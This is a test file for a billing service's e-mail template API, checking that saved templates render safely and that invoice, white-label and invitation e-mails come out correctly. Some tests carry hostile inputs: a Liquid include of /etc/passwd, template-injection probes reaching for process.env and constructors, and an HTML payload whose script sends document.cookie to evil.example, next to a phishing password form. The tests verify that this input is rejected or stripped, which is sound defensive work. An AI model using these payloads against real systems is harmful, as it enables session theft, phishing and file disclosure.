import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EmailTemplate, EmailTemplatePreview, ErrorBody, Invoice } from '@billpoint/proto';
import { waitFor, type HttpClient } from '@billpoint/kit/testing';
import { startStack, type Stack } from '../../../gateway/test/support/stack.ts';
import { makeCustomer, makeInvoice } from './support/factories.ts';
import { brandOrganization, mailsTo } from './support/branding.ts';
import { pdfText } from './support/pdf.ts';

/** The organization's e-mail templates through the gateway, and the e-mails billing sends with them. */
let stack: Stack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack?.close());

async function tenant(organizationName = 'Template Works') {
  const c = stack.client();
  const me = await c.register({ organizationName });
  return { c, tenantId: me.organization.id as string };
}
const put = (c: HttpClient, type: string, body: object, language = 'en') =>
  c.put(`/api/email-templates/${type}?language=${language}`, body);
const issues = (res: { json: unknown }) => (res.json as ErrorBody).issues;

describe('/api/email-templates', () => {
  it('lists the five types, built in until saved, in the language asked for', async () => {
    const { c } = await tenant();
    const en = (await c.get('/api/email-templates')).json as EmailTemplate[];
    expect(en.map((t) => [t.type, t.customized, t.language])).toEqual([
      ['invoice', false, 'en'],
      ['reminder', false, 'en'],
      ['payment_received', false, 'en'],
      ['welcome', false, 'en'],
      ['custom', false, 'en'],
    ]);
    const de = (await c.get('/api/email-templates/invoice?language=de')).json as EmailTemplate;
    expect(de).toMatchObject({ type: 'invoice', language: 'de', customized: false, updatedAt: null });
    expect(de.subject).toContain('Rechnung');
    expect((await c.get('/api/email-templates/nope')).status).toBe(400);
    expect((await c.get('/api/email-templates?language=xx')).status).toBe(400);
  });

  it('saves a template per language, previews it, and resets it to the default', async () => {
    const { c } = await tenant();
    const body = {
      subject: 'Bill {{ invoice.number }} for {{ customer.name }}',
      htmlContent: '<p>{{ customer.name }}</p>',
      textContent: 'Pay: {{ payLink }}',
    };
    const saved = await put(c, 'invoice', body);
    expect(saved.status, saved.text).toBe(200);
    expect(saved.json).toMatchObject({ ...body, type: 'invoice', language: 'en', customized: true });
    expect((saved.json as EmailTemplate).updatedAt).not.toBeNull();
    const list = (await c.get('/api/email-templates')).json as EmailTemplate[];
    expect(list.find((t) => t.type === 'invoice')).toMatchObject({ customized: true, subject: body.subject });
    expect(((await c.get('/api/email-templates/invoice?language=fr')).json as EmailTemplate).customized).toBe(false);

    const preview = await c.post('/api/email-templates/invoice/preview', {
      ...body,
      htmlContent: '<p>{{ customer.name }} & {{ "<b>" }}</p>',
    });
    expect(preview.status, preview.text).toBe(200);
    expect(preview.json as EmailTemplatePreview).toEqual({
      subject: 'Bill INV-0042 for Jane Doe',
      html: '<p>Jane Doe &amp; &lt;b&gt;</p>',
      text: expect.stringMatching(/^Pay: http:\/\/.+\/pay\/sample$/),
    });

    expect((await c.delete('/api/email-templates/invoice?language=en')).status).toBe(204);
    expect(((await c.get('/api/email-templates/invoice')).json as EmailTemplate).customized).toBe(false);
  });

  it('refuses a template that does not parse: 400 naming the field and Liquid’s line', async () => {
    const { c } = await tenant();
    const res = await put(c, 'reminder', { subject: 'Hi', htmlContent: '<p>ok</p>\n{% include "/etc/passwd" %}', textContent: 'x' });
    expect(res.status).toBe(400);
    expect(issues(res)).toEqual([{ path: 'htmlContent', message: expect.stringMatching(/"include" tag is not allowed.*line:2/) }]);
    const filter = await put(c, 'reminder', { subject: '{{ "" | constructor }}', htmlContent: '', textContent: 'x' });
    expect(issues(filter)).toEqual([{ path: 'subject', message: expect.stringContaining('undefined filter: constructor') }]);
    const empty = await put(c, 'reminder', { subject: ' ', htmlContent: '', textContent: 'x' });
    expect(issues(empty)).toEqual([expect.objectContaining({ path: 'subject', message: 'Subject is required' })]);
    const preview = await c.post('/api/email-templates/reminder/preview', {
      subject: 'x',
      htmlContent: '{% render "a" %}',
      textContent: 'x',
    });
    expect(issues(preview)).toEqual([{ path: 'htmlContent', message: expect.stringContaining('"render" tag is not allowed') }]);
    expect(((await c.get('/api/email-templates/reminder')).json as EmailTemplate).customized).toBe(false);
  });

  it('a hostile template saved anyway reaches nothing of the process', async () => {
    const { c } = await tenant();
    const hostile = '[{{ process.env }}{{ "x".constructor }}{{ this }}{{ customer.__proto__ }}{{ customer.constructor.constructor }}]';
    const res = await c.post('/api/email-templates/invoice/preview', { subject: hostile, htmlContent: hostile, textContent: hostile });
    expect(res.json).toEqual({ subject: '[]', html: '[]', text: '[]' });
  });
});

describe('the e-mails billing sends', () => {
  it('an edited invoice template changes the subject of the next invoice e-mail (html and text, From "{org} via Billpoint")', async () => {
    const { c, tenantId } = await tenant('Subject Makers');
    await brandOrganization(stack, c, tenantId, { portalSlug: 'subject-makers' });
    await put(c, 'invoice', {
      subject: 'Your bill {{ invoice.number }} ({{ invoice.total }})',
      htmlContent: '<p>Hi {{ customer.name }}</p><a href="{{ payLink }}">Pay</a> <a href="{{ portalLink }}">Portal</a>',
      textContent: 'Hi {{ customer.name }}, pay at {{ payLink }} or see {{ portalLink }}',
    });
    const customer = await makeCustomer(c, { name: 'Tom <Thumb>', email: 'tom.subject@example.test' });
    const invoice = await makeInvoice(c, customer.id);
    const sent = await c.post(`/api/invoices/${invoice.id}/send`);
    expect(sent.status).toBe(200);
    const [mail, ...more] = await mailsTo(stack, 'tom.subject@example.test');
    expect(more).toHaveLength(0);
    // The legal number the draft took when it was sent.
    expect(mail!.subject).toBe('Your bill INV-0001 (201.00 USD)');
    expect((sent.json as Invoice).invoiceNumber).toBe('INV-0001');
    expect(mail!.from!.value[0]!.name).toBe('Subject Makers via Billpoint');
    expect(mail!.html).toContain('<p>Hi Tom &lt;Thumb&gt;</p>');
    expect(mail!.html).toContain(`/pay/${invoice.publicToken}"`);
    expect(mail!.text).toContain('/portal/subject-makers');
    expect(mail!.attachments.map((a) => a.filename)).toEqual(['invoice-INV-0001.pdf']);
  });

  it('uses the organization’s default language when nothing else is chosen', async () => {
    const { c, tenantId } = await tenant('Sprachschule');
    await brandOrganization(stack, c, tenantId, { defaultLanguage: 'de' });
    const customer = await makeCustomer(c, { email: 'kunde.de@example.test' });
    const invoice = await makeInvoice(c, customer.id);
    await c.post(`/api/invoices/${invoice.id}/send`);
    const [mail] = await mailsTo(stack, 'kunde.de@example.test');
    expect(invoice.invoiceNumber).toBe('DRAFT-0001');
    expect(mail!.subject).toBe('Rechnung INV-0001 von Sprachschule');
  });

  it('white-label: no "Billpoint" in the subject, From, body or PDF of the organization’s invoice e-mail', async () => {
    const { c, tenantId } = await tenant('Quiet Label Ltd');
    await brandOrganization(stack, c, tenantId, {
      portalSlug: 'quiet-label',
      whiteLabelActive: true,
      customDomain: 'billing.quiet.test',
      verified: true,
    });
    const customer = await makeCustomer(c, { email: 'wl.customer@example.test' });
    const invoice = await makeInvoice(c, customer.id);
    expect((await c.post(`/api/invoices/${invoice.id}/send`)).status).toBe(200);
    const [mail] = await mailsTo(stack, 'wl.customer@example.test');
    expect(mail!.from!.value[0]!.name).toBe('Quiet Label Ltd');
    expect(mail!.text).toContain('https://billing.quiet.test/portal');
    for (const part of [mail!.subject, mail!.from!.value[0]!.name, mail!.text, mail!.html]) expect(part).not.toMatch(/billpoint/i);
    const pdf = mail!.attachments[0]!.content;
    expect(pdf.toString('latin1')).not.toMatch(/billpoint/i); // the document info (Producer, Creator) included
    expect(await pdfText(pdf)).not.toMatch(/billpoint/i);

    const pub = await stack.client().get(`/api/invoices/${invoice.publicToken}/public`);
    expect(pub.json).toMatchObject({ whiteLabel: true, seller: { name: 'Quiet Label Ltd' } });
  });
});

describe('a manager’s HTML in the e-mails', () => {
  /** A second person, a manager of the tenant, signed in to it. */
  async function managerOf(tenantId: string) {
    const m = stack.client();
    const me = await m.register({ organizationName: 'Manager’s own' });
    await stack.db.query(
      `insert into gateway.memberships (id, user_id, organization_id, role) values (gen_random_uuid(), $1, $2, 'manager')`,
      [me.id, tenantId],
    );
    expect((await m.post('/api/auth/switch-organization', { organizationId: tenantId })).status).toBe(200);
    expect((await m.get('/api/auth/user')).json).toMatchObject({ role: 'manager' });
    return m;
  }
  const hostileHtml =
    '<p onclick="steal()">Hi {{ customer.name | raw }}<script>fetch("https://evil.example/?c=" + document.cookie)</script></p>' +
    '<a href="javascript:alert(1)">Verify your account</a>' +
    '<form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>' +
    '<a href="{{ payLink | raw }}">Pay</a>';

  it('goes out without scripts, handlers, script links or forms; `| raw` only for a link', async () => {
    const { c, tenantId } = await tenant('Raw Makers');
    const manager = await managerOf(tenantId);
    const saved = await put(manager, 'invoice', {
      subject: 'Bill {{ invoice.number }}',
      htmlContent: hostileHtml,
      textContent: 'Hi {{ customer.name | raw }}',
    });
    expect(saved.status, saved.text).toBe(200);
    expect((saved.json as EmailTemplate).htmlContent).toBe(hostileHtml); // stored as written; cleaned whenever rendered

    const customer = await makeCustomer(c, { name: '<b>x</b>', email: 'raw.customer@example.test' });
    const invoice = await makeInvoice(c, customer.id);
    expect((await c.post(`/api/invoices/${invoice.id}/send`)).status).toBe(200);
    const [mail] = await mailsTo(stack, 'raw.customer@example.test');
    for (const gone of ['<script', 'document.cookie', 'onclick', 'javascript:', '<form', '<input', '<button', 'evil.example', '<b>'])
      expect(mail!.html, gone).not.toContain(gone);
    expect(mail!.html).toContain('<p>Hi &lt;b&gt;x&lt;/b&gt;</p>');
    expect(mail!.html).toMatch(new RegExp(`<a href="http://[^"]+/pay/${invoice.publicToken}">Pay</a>`));
    expect(mail!.html).toContain('<a>Verify your account</a>');
    expect(mail!.text).toContain('Hi <b>x</b>'); // the plain-text part is plain text

    // The preview the web shows is cleaned the same way.
    const preview = await manager.post('/api/email-templates/invoice/preview', {
      subject: 's',
      htmlContent: hostileHtml,
      textContent: 't',
    });
    expect(preview.status, preview.text).toBe(200);
    expect((preview.json as EmailTemplatePreview).html).toMatch(
      /^<p>Hi Jane Doe<\/p><a>Verify your account<\/a><a href="http:\/\/[^"]+\/pay\/sample">Pay<\/a>$/,
    );
  });
});

describe('POST /api/portal-invitations', () => {
  it('sends the welcome template with the portal link; 404 unknown customer, 422 without an address', async () => {
    const { c, tenantId } = await tenant('Inviting Co');
    await brandOrganization(stack, c, tenantId, { portalSlug: 'inviting-co' });
    const customer = await makeCustomer(c, { name: 'Ivy', email: 'ivy.invited@example.test' });
    const res = await c.post('/api/portal-invitations', { customerId: customer.id });
    expect(res.status, res.text).toBe(204);
    const [mail] = await mailsTo(stack, 'ivy.invited@example.test');
    expect(mail!.subject).toBe('Your customer portal at Inviting Co');
    expect(mail!.text).toMatch(/Open the customer portal: http:\/\/\S+\/portal\/inviting-co/);
    expect(mail!.html).toContain('/portal/inviting-co"');

    expect((await c.post('/api/portal-invitations', { customerId: 999_999 })).status).toBe(404);
    // Customers are created with an address; one from before that rule (billing's copy has none) cannot be invited.
    const noMail = await makeCustomer(c, { email: 'gone@example.test' });
    await waitFor(
      async () =>
        (await stack.db.query(`update billing.customers set email = null where tenant_id = $1 and id = $2`, [tenantId, noMail.id]))
          .rowCount === 1,
    );
    const refused = await c.post('/api/portal-invitations', { customerId: noMail.id });
    expect(refused.status).toBe(422);
    expect((await c.post('/api/portal-invitations', { customerId: 'x' })).status).toBe(400);
  });
});
